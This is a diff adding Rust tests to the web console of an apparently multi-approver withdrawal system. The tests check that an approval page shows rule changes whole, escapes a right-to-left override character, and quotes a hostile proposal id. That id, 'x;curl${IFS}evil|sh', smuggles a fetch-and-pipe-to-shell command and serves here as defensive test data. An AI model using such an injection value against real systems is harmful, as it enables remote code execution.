@@ -1,6 +1,10 @@
 //! What people say at the console: answers, proposals and new passkeys, and what a session alone can not.
 
 use super::*;
+use keepwhole_core::authority::class::Class;
+use keepwhole_core::authority::quorum::Quorum;
+use keepwhole_core::command::{Body, Command as Asked};
+use keepwhole_core::guard::Change;
 
 #[test]
 fn two_people_clear_a_withdrawal_each_with_a_touch_of_their_own() {
@@ -373,4 +377,63 @@ fn one_person_halts_with_a_touch() {
     ] {
         assert_eq!(world.post("/propose/begin", &cookies, &asked).code(), code);
     }
+}
+
+/// Asks the journal itself.
+fn propose(world: &World, id: &str, change: Change) {
+    let command = Asked {
+        id: Some(id.to_owned()),
+        actor: Some("ada".to_owned()),
+        body: Body::ProposeChange(change),
+    };
+    let reply = world.running.as_ref().unwrap().handle().submit(command);
+    let answer = reply.unwrap().answer;
+    assert!(matches!(answer, Said::Held(_)), "{answer:?}");
+}
+
+#[test]
+fn what_a_digest_stands_for_is_shown_whole_beside_what_is_in_force() {
+    let world = world(false);
+    let running = world.running.as_ref().unwrap();
+    let rules = running.reader().read(|state| state.authority.rules.clone());
+    let mut rules = rules.unwrap().unwrap();
+    rules.version = 2;
+    rules.clearers.insert(0, "risk\u{202e}".to_owned());
+    rules.separate_from[0].from *= 2;
+    let lift = |quorum: &&mut Quorum| quorum.class == Class::LiftStop;
+    rules.quorums.iter_mut().find(lift).unwrap().persons = 3;
+    // A legal id, and no word of a command line.
+    let id = "x;curl${IFS}evil|sh";
+    propose(&world, id, Change::AdoptAuthority(rules));
+    let path: String = id.bytes().map(|byte| format!("%{byte:02X}")).collect();
+    let page = world.get(&format!("/approve/{path}"), "").body;
+    for said in [
+        "Version 1 now, 2 proposed",
+        "distinct persons: 3",
+        "distinct persons: 2",
+        "ETH from 4<",
+        "ETH from 8<",
+        "risk\\u{202e}",
+        "keepwhole staff approve 'x;curl${IFS}evil|sh' answer.json",
+    ] {
+        assert!(page.contains(said), "{said} is missing: {page}");
+    }
+    assert!(!page.contains('\u{202e}'));
+    assert_eq!(
+        page.matches("<strong>changed</strong>").count(),
+        3,
+        "{page}"
+    );
+    let mut korean = world.get(&format!("/approve/{path}?lang=ko"), "").body;
+    korean.retain(|letter| letter != '\n');
+    assert!(korean.contains("지금 1판, 제안 2판"), "{korean}");
+}
+
+#[test]
+fn a_request_and_the_word_on_it_lead_to_each_other() {
+    let world = world(false);
+    let matter = world.get("/approve/w-1", "").body;
+    assert!(matter.contains("href=\"/guard/w-1\""), "{matter}");
+    let request = world.get("/guard/w-1", "").body;
+    assert!(request.contains("href=\"/approve/w-1\""), "{request}");
 }
